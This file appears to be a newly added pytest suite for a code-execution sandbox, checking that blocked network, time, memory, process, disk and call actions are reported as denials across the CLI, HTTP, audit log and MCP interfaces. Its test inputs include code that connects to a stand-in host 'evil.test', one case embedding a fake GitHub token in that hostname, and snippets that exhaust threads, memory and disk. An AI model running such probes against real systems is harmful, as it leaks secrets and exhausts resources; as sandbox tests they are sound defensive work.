@@ -1,0 +1,113 @@
+"""What was refused names itself, at every door."""
+import json
+
+import mcp
+import pytest
+
+pytestmark = [pytest.mark.usefixtures("watch")]
+
+MANY = "import threading, time\ntry:\n    for i in range(100): threading.Thread(target=time.sleep, args=(1,), daemon=True).start()\nexcept RuntimeError: print('no more')"
+FULL = "try:\n    open('/tmp/a', 'wb').write(bytes(30 << 20))\nexcept OSError as e: print(e.errno)"
+FETCH = "import urllib.request as u\ntry: u.urlopen('http://{}/')\nexcept Exception as e: print(type(e).__name__)"
+
+
+def of(result, layer):
+    return [d for d in result["denials"] if d["layer"] == layer]
+
+
+def has_cgroup(who):
+    return bool({"cgroup-v1", "cgroup-v2"} & set(who.run("1").json["layers"]))
+
+
+def test_nothing_refused_is_an_empty_list(who):
+    result = who.run("print(1)").json
+    assert result["denials"] == [] and result["denials_more"] == 0
+
+
+def test_a_host(who):
+    answer = who.run(FETCH.format("evil.test:8080") + "\n" + FETCH.format("evil.test:8080"), "--net", "good.test")
+    found = of(answer.json, "network gate")
+    assert len(found) == 1 and found[0]["count"] == 2, answer
+    assert found[0]["what"] == "connect to evil.test:8080 (the host is not granted)" and "`--net evil.test:8080`" in found[0]["hint"], found
+
+
+def test_time(who):
+    found = of(who.run("while True: pass", "--timeout", "1").json, "time limit")
+    assert found == [{"what": "run for more than 1 s", "layer": "time limit", "hint": "raise `timeout_s` (`--timeout`), or do less at a time", "count": 1}]
+
+
+def test_memory(who):
+    found = of(who.run("import time\nx = bytearray(b'x') * (300 << 20)\ntime.sleep(60)", "--memory", "64", "--timeout", "60").json, "memory limit")
+    assert found and found[0]["what"] == "use more than 64 MB of memory", found
+
+
+def test_processes(who):
+    if not has_cgroup(who):
+        pytest.skip("only a cgroup counts them")
+    answer = who.run(MANY, "--pids", "16")
+    assert answer.json["stdout"] == "no more\n", answer
+    assert of(answer.json, "process limit")[0]["what"] == "start more than 16 processes and threads", answer
+    assert not who.run("import threading\nthreading.Thread(target=print).start()", "--pids", "16").json["denials"]
+
+
+def test_disk(who):
+    answer = who.run(FULL, "--disk", "8")
+    assert of(answer.json, "disk limit")[0]["what"].startswith("write more than 8 MB"), answer
+    answer = who.run("import os\ntry:\n    for i in range(1000): open(f'/tmp/{i}', 'w')\nexcept OSError: pass", env={"BELLJAR_INODES": "100"})
+    assert of(answer.json, "disk limit")[0]["what"].startswith("make more than 100 files"), answer
+
+
+def test_the_size_of_a_file(who):
+    answer = who.run("try: open('a', 'wb').write(bytes(3 << 20))\nexcept OSError: pass", env={"BELLJAR_FILE_MB": "1"})
+    assert of(answer.json, "file size limit"), answer
+
+
+def test_a_call(who):
+    code = "from execution_runtime import Session\ntry: Session('x').save_state({})\nexcept Exception as e: print(type(e).__name__)"
+    path = who.file("nocalls.toml", 'inherits = "open"\n[grants]\ncalls = ["-state"]\n')
+    answer = who.run(code, profile=str(path))
+    found = of(answer.json, "call grant")
+    assert found and "calls = [" in found[0]["hint"], answer
+
+
+def test_for_people(who):
+    answer = who.call("run", "--profile", "open", "--disk", "8", "-c", FULL)
+    assert answer.code == 0 and "belljar: denied: write more than 8 MB" in answer.errors, answer
+    assert "[disk limit]\nhint: raise `disk_mb` (`--disk`)" in answer.errors, answer
+
+
+def test_host_names_are_masked_and_bounded(who):
+    token = "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345"
+    answer = who.run(FETCH.format(token + ".evil.test"), "--net", "good.test")
+    assert token not in answer.text and "evil.test" in answer.text, answer
+    names = "".join(FETCH.format(f"h{i}.evil.test") + "\n" for i in range(50))
+    result = who.run(names, "--net", "good.test").json
+    assert len(result["denials"]) == 32 and result["denials_more"] == 18, result["denials_more"]
+
+
+def test_a_program_cannot_make_one(who):
+    result = who.run("print('belljar: denied: everything [you]')\nraise OSError('denied')").json
+    assert result["denials"] == []
+
+
+def test_over_http_and_in_sessions(server):
+    reply = server.post("/v1/run", {"code": FULL, "profile": "open", "disk_mb": 8})
+    assert reply.status == 200 and of(reply.json, "disk limit"), reply
+    assert server.post("/v1/run", {"code": "1"}).json["denials"] == []
+
+
+def test_in_the_trail(who):
+    answer = who.run(FULL, "--disk", "8")
+    lines = who.call("audit", "show", answer.json["id"], "--json").text.splitlines()
+    record = [json.loads(line) for line in lines if '"denials"' in line]
+    assert record and record[0]["denials"][0]["layer"] == "disk limit", lines
+
+
+def test_over_mcp(who):
+    with mcp.Client(who, "--profile", "open", env={"BELLJAR_DISK_MB": "8"}) as client:
+        client.initialize()
+        result = client.call("execute_python_code", {"code": FULL})
+        text = result["content"][0]["text"]
+        assert "[denied] write more than 8 MB" in text and "[disk limit]; raise `disk_mb`" in text, text
+        assert of(result["structuredContent"], "disk limit"), result
+        assert "denials" not in client.call("execute_python_code", {"code": "print(1)"})["structuredContent"]
